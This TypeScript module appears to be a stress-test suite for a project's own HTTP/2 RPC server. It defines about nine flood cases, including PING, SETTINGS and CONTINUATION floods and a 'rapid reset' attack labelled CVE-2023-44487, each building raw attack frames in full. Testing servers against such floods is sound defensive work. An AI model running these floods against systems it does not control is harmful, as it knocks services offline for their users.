import { randomBytes } from 'node:crypto'
import { PATHS } from '../tools/calls.ts'
import { frameFlood } from '../tools/flood.ts'
import { callHeaders, FLAG, frame, FRAME, literals, uint32 } from '../tools/frames.ts'

const HUNDRED = 100

function repeated(bytes: Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: HUNDRED }, () => bytes))
}

/** An odd stream id for a round and a place in its write. */
function streamOf(round: number, place = 0): number {
  return 1 + 2 * (round * HUNDRED + place)
}

/** Each ping must be answered. */
const PINGS = repeated(frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8)))
export const pingFlood = frameFlood({
  name: 'ping-flood',
  tries: 'HTTP/2 PING frames without end',
  perWrite: HUNDRED,
  next: () => PINGS,
})

/** Each settings frame must be acknowledged. */
const SETTINGS = repeated(frame(FRAME.settings, FLAG.none, 0, Buffer.from([0, 4, 0, 1, 0, 0])))
export const settingsFlood = frameFlood({
  name: 'settings-flood',
  tries: 'HTTP/2 SETTINGS frames without end',
  perWrite: HUNDRED,
  next: () => SETTINGS,
})

/** A window may grow a byte at a time. */
const WINDOWS = repeated(frame(FRAME.window, FLAG.none, 0, uint32(1)))
export const windowFlood = frameFlood({
  name: 'window-flood',
  tries: 'HTTP/2 WINDOW_UPDATE frames without end',
  perWrite: HUNDRED,
  next: () => WINDOWS,
})

/** Priorities of streams that do not exist. */
export const priorityFlood = frameFlood({
  name: 'priority-flood',
  tries: 'HTTP/2 PRIORITY frames without end',
  perWrite: HUNDRED,
  next: (round) =>
    Buffer.concat(
      Array.from({ length: HUNDRED }, (_, i) =>
        frame(FRAME.priority, FLAG.none, streamOf(round % 10_000, i), Buffer.from([0, 0, 0, 0, 1])),
      ),
    ),
})

/** Opens calls and cancels each at once (CVE-2023-44487). */
const CALL = callHeaders(PATHS.checkHealth)
export const rapidReset = frameFlood({
  name: 'rapid-reset',
  tries: 'HTTP/2 calls that are reset at once, without end',
  perWrite: 2 * HUNDRED,
  next: (round) =>
    Buffer.concat(
      Array.from({ length: HUNDRED }, (_, i) => [
        frame(FRAME.headers, FLAG.endHeaders, streamOf(round, i), CALL),
        frame(FRAME.reset, FLAG.none, streamOf(round, i), uint32(8)),
      ]).flat(),
    ),
})

/** A call whose body is frames without a byte. */
const EMPTY = repeated(frame(FRAME.data, FLAG.none, 1))
export const emptyData = frameFlood({
  name: 'empty-data',
  tries: 'HTTP/2 DATA frames without a byte, without end',
  perWrite: HUNDRED,
  next: (round) => (round === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, callHeaders(PATHS.register)) : EMPTY),
})

/** Headers that never end (CVE-2024-27316). */
const PART = frame(FRAME.continuation, FLAG.none, 1, literals([['x-part', 'x'.repeat(4_000)]]))
export const continuationFlood = frameFlood({
  name: 'continuation-flood',
  tries: 'HTTP/2 headers that go on in CONTINUATION frames without end',
  perWrite: 1,
  next: (round) => (round === 0 ? frame(FRAME.headers, FLAG.none, 1, callHeaders(PATHS.checkHealth)) : PART),
})

/** As much metadata as a frame takes. */
export const hugeMetadata = frameFlood({
  name: 'huge-metadata',
  tries: 'calls with 15 KB of metadata in one header',
  perWrite: 1,
  next: (round) =>
    frame(
      FRAME.headers,
      FLAG.endHeaders | FLAG.endStream,
      1 + 2 * round,
      callHeaders(PATHS.checkHealth, [['x-huge', randomBytes(7_500).toString('hex')]]),
    ),
})

/** The most headers that fit: each becomes an entry of the metadata. */
const MANY = callHeaders(
  PATHS.checkHealth,
  Array.from({ length: 100 }, (_, i) => [`x-${i}`, 'v'] as const),
)
export const manyHeaders = frameFlood({
  name: 'many-headers',
  tries: 'calls with 100 small headers each',
  perWrite: 1,
  next: (round) => frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1 + 2 * round, MANY),
})
